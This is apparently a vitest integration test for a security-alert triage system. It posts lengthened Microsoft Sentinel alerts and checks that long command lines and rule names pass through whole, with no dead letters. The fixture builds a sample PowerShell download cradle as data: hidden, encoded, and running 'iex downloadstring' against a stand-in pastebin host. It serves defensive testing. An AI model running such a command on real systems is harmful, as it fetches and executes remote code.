import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { client, decidedCase, startSystem } from './support.ts';

// Row 42 of the SecurityAlert export: Defender for Cloud's "Detected obfuscated command line." with its
// process entity and the `Suspicious Command Line` extended property. Real command lines of such detections run
// to kilobytes (encoded PowerShell, long download cradles); this one is lengthened the way they are.
const rows = readFileSync(new URL('../../../test/fixtures/alerts/sentinel/rows.jsonl', import.meta.url), 'utf8').trim().split('\n');
const obfuscated = JSON.parse(rows[42]!) as Record<string, unknown> & { Entities: Record<string, unknown>[]; ExtendedProperties: Record<string, unknown> };
const payloadUrl = `http://pastebin.example/raw/${'pqcwem17'.repeat(60)}`;
const commandLine = `.\\powershell  -nop -w hidden -enc ${'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'.repeat(40)} ; iex (new-object net.webclient).downloadstring('${payloadUrl}')`;
const longRuleName = `ASC - ${'Suspicious command line executed by a process running from a temporary folder; '.repeat(5)}`.trim();

/** The row as Sentinel exports it on the n-th firing: its own ids, a title with a counter, the long command line. */
function longRow(n: number): Record<string, unknown> {
  return {
    ...obfuscated,
    SystemAlertId: `2518547714871530079_77211491-86de-4295-82bc-${String(n).padStart(12, '0')}`,
    AlertDisplayName: `${longRuleName} (${n})`,
    AlertName: longRuleName,
    AlertType: longRuleName,
    ExtendedProperties: { ...obfuscated.ExtendedProperties, 'Suspicious Command Line': commandLine },
    Entities: obfuscated.Entities.map((e) => (e.Type === 'process' && e.ProcessId === '0x154c' ? { ...e, CommandLine: commandLine } : e)),
  };
}

describe('real alerts with long rule names and command lines flow end to end', () => {
  let system: Awaited<ReturnType<typeof startSystem>>;
  let api: ReturnType<typeof client>;
  beforeAll(async () => {
    system = await startSystem();
    api = client(system.url);
  });
  afterAll(async () => {
    await system.close();
  });

  const decided = (alertId: string) => decidedCase(api, alertId, 15_000);

  it('a burst of SecurityAlert rows whose titles carry a counter all reach a decision, with 0 dead letters', async () => {
    const alertIds: string[] = [];
    // One after the other: the history of the first is what the later ones' facts are built from.
    for (let n = 1; n <= 4; n++) {
      const posted = await api('/api/v1/alerts/sentinel', { body: longRow(n) });
      expect(posted.status).toBe(202);
      alertIds.push(posted.body.alertId);
      await decided(posted.body.alertId);
    }
    const last = await decided(alertIds.at(-1)!);
    const process = last.alert.entities.find((e: { type: string; commandLine?: string }) => e.type === 'process' && e.commandLine === commandLine);
    expect(process, 'the command line is kept whole').toBeDefined();
    expect(last.alert.entities.map((e: { value: string }) => e.value)).toContain(payloadUrl);
    const kinds = last.enrichment.facts.map((f: { kind: string }) => f.kind);
    expect(kinds).toEqual(expect.arrayContaining(['history', 'rule-history']));
    for (const fact of last.enrichment.facts) expect(fact.id.length).toBeLessThanOrEqual(256);
    expect(await system.platform.bus.deadLetters.list()).toEqual([]);
  });
});
